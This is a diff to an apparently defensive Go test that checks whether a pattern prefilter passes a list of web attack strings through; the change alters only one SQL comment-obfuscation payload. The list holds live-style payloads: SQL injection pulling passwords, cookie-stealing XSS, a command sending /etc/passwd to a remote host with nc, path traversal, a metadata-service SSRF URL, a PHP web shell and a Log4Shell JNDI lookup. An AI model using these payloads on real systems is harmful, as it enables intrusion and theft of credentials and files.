@@ -32,7 +32,7 @@ func TestAttacksAreLetThrough(t *testing.T) {
 		for _, text := range []string{
 			"1' OR '1'='1' UNION SELECT password FROM users-- ", "<script>alert(document.cookie)</script>", "; cat /etc/passwd | nc 203.0.113.5 4444",
 			"../../../../etc/passwd", "http://169.254.169.254/latest/meta-data/", "<?php system($_GET['c']); ?>", "${jndi:ldap://203.0.113.5/a}",
-			"%3cscript%3ealert(1)%3c/script%3e", "&lt;script&gt;alert(1)", `\u003cscript\u003ealert(1)`, "uni/**/on sel/**/ect 1 from users where 'a'='a'",
+			"%3cscript%3ealert(1)%3c/script%3e", "&lt;script&gt;alert(1)", `\u003cscript\u003ealert(1)`, "union/**/select/**/1 from users where 'a'='a'",
 		} {
 			if !s.MayMatch([]byte(text)) {
 				t.Errorf("level %d: %q is held back", level, text)
